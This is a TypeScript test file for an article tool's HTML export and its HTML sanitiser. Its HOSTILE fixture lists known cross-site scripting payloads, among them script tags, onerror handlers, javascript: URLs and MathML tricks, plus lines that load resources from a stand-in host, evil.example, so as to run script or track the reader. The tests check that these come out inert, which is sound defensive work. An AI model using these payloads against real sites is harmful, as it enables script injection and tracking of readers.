import { parseHTML } from 'linkedom';
import { describe, expect, test } from 'vitest';
import { EXPORT_CSP, toHtml } from '../../src/core/export/html';
import { safeHtml } from '../../src/core/export/html-tokens';
import { MATHML_ELEMENTS } from '../../src/core/page/mathml-allowlist';
import { ARTICLE_SLUGS, buildArticle, CTX, SECTION_SLUG } from './article-factory';

/** Hostile article HTML: each line is a known way to run script or leak the reader. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src="https://evil.example/a.jpg" onerror="alert(1)">',
  '<img src=x onerror=alert(1)//>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href=" JaVaScRiPt:alert(1)">case</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math><mglyph src="https://evil.example/g.png"/><maction actiontype="statusline" href="javascript:alert(1)"><mi>x</mi></maction><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<style>body{background:url(https://evil.example/track)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
  '<!-- <script>alert(1)</script> -->',
  '<scr<script>ipt>alert(1)</script>',
  '<p title="a" onclick="alert(1)" style="x:y" ONMOUSEOVER=alert(1)>text</p>',
  '<div onmouseover="alert(1)"<p>broken tag</p>',
  '<img src="https://evil.example/a.jpg" alt="x" / onerror=alert(1)>',
  '<a href="https://ok.example/" target="_blank" onfocus="alert(1)" autofocus>ok</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<p>5 < 6 and 7 > 3 &amp; &copy; &unknown; & done</p>',
].join('\n');

function dom(html: string) {
  return parseHTML(html).document;
}

function assertInert(html: string) {
  const document = dom(html);
  expect(html).not.toMatch(/<\s*(script|iframe|object|embed|svg|base|link|form|input|button|textarea|template|noscript|style\b(?! *>))/i);
  const all = Array.from(document.querySelectorAll('*')) as Element[];
  for (const el of all) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name, `${el.tagName} ${attr.name}`).not.toMatch(/^on/i);
      if (['href', 'src', 'action', 'formaction', 'srcset'].includes(attr.name)) {
        expect(attr.value, `${el.tagName} ${attr.name}`).toMatch(/^(https?:|mailto:|data:image\/)/);
      }
      expect(attr.name).not.toBe('style');
    }
  }
  expect(document.querySelectorAll('script, iframe, object, embed, form, base, link, svg').length).toBe(0);
  // Formulas keep presentation MathML only: no glyph images, actions or annotations that can hold HTML.
  for (const math of Array.from(document.querySelectorAll('math')) as Element[]) {
    for (const el of Array.from(math.querySelectorAll('*')) as Element[]) expect(MATHML_ELEMENTS).toContain(el.localName);
  }
  const metas = Array.from(document.querySelectorAll('meta')) as Element[];
  expect(metas.filter((m) => m.getAttribute('http-equiv')?.toLowerCase() === 'refresh')).toEqual([]);
}

describe('HTML export', () => {
  test.each([...ARTICLE_SLUGS, SECTION_SLUG])('%s: standalone page with title, metadata, CSP and the body', (slug) => {
    const article = buildArticle(slug);
    const html = toHtml(article, CTX);
    const document = dom(html);
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(document.querySelector('title')?.textContent).toBe(article.title);
    expect(document.querySelector('h1')?.textContent).toBe(article.title);
    expect(document.documentElement.getAttribute('lang')).toBe(article.lang);
    const csp = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(csp?.getAttribute('content')).toBe(EXPORT_CSP);
    expect(EXPORT_CSP).toContain("default-src 'none'; img-src https: http: data:; style-src 'unsafe-inline'");
    const meta = document.querySelector('.meta')?.textContent ?? '';
    for (const part of [article.siteName, article.byline, article.published]) if (part) expect(meta).toContain(part);
    expect(document.querySelector('.source a')?.getAttribute('href')).toBe(article.url);
    const content = document.querySelector('.content')?.textContent ?? '';
    for (const paragraph of article.paragraphs) expect(content).toContain(paragraph);
    assertInert(html);
  });

  test('the attendee box lists every person with roles, and is absent without attendees', () => {
    const article = buildArticle('soctrang-bo-y-te-sot-xuat-huyet');
    const box = dom(toHtml(article, CTX)).querySelector('.attendees');
    const items = Array.from(box?.querySelectorAll('li') ?? []) as Element[];
    expect(items).toHaveLength(article.attendees!.people.length);
    article.attendees!.people.forEach((person, i) => {
      expect(items[i].textContent).toContain(person.name);
      for (const role of person.roles) expect(items[i].textContent).toContain(role);
    });
    expect(box?.querySelector('h2')?.textContent).toBe('Thành phần tham dự');
    expect(dom(toHtml(buildArticle(SECTION_SLUG), CTX)).querySelector('.attendees')).toBeFalsy();
  });

  test('hostile article HTML comes out inert, and its harmless text stays', () => {
    const article = { ...buildArticle('kellerton-council-library'), html: HOSTILE };
    const html = toHtml(article, CTX);
    assertInert(html);
    const content = dom(html).querySelector('.content')!;
    expect(content.textContent).toContain('5 < 6 and 7 > 3 & © &unknown; & done');
    expect(content.textContent).toContain('broken tag');
    expect((content.querySelector('a[href="https://ok.example/"]') as Element | null)?.textContent).toBe('ok');
    expect(content.querySelectorAll('img').length).toBeGreaterThan(0);
  });

  test('metadata is escaped: hostile title, byline, site and URL stay text', () => {
    const evil = '</title><script>alert(1)</script><img src=x onerror=alert(1)>" onmouseover="alert(1)';
    const article = {
      ...buildArticle('baothanhhoa-giao-ban-dan-van'),
      title: evil,
      byline: evil,
      siteName: evil,
      url: `javascript:alert(1)//${evil}`,
      lang: '"><script>',
      attendees: { people: [{ name: evil, roles: [evil], parts: ['chair' as const], evidence: [] }], groups: [evil] },
    };
    const html = toHtml(article, { ...CTX, extractor: { name: evil, version: evil } });
    assertInert(html);
    const document = dom(html);
    expect(document.querySelector('title')?.textContent).toBe(evil);
    expect(document.querySelector('h1')?.textContent).toBe(evil);
    expect(document.querySelector('.meta')?.textContent).toContain(evil);
    expect(document.querySelector('.attendees li strong')?.textContent).toBe(evil);
    expect(document.querySelector('.source a')).toBeFalsy();
    expect(document.documentElement.getAttribute('lang')).toBe('und');
  });
});

describe('safeHtml', () => {
  test('output is stable: sanitising twice changes nothing', () => {
    const once = safeHtml(HOSTILE, 'https://kellertonledger.com/a/');
    expect(safeHtml(once, 'https://kellertonledger.com/a/')).toBe(once);
  });

  test('relative URLs resolve against the article and lose tracking parameters', () => {
    expect(safeHtml('<a href="../b?utm_medium=x&amp;p=2#s">b</a><img src="c.jpg" alt="C">', 'https://site.vn/x/a/')).toBe(
      '<a href="https://site.vn/x/b?p=2#s" rel="noopener noreferrer">b</a><img src="https://site.vn/x/a/c.jpg" alt="C">',
    );
  });

  test('unclosed elements are closed and stray closing tags dropped', () => {
    expect(safeHtml('<p><em>a<strong>b</p></div>c', null)).toBe('<p><em>a<strong>b</strong></em></p>c');
  });
});
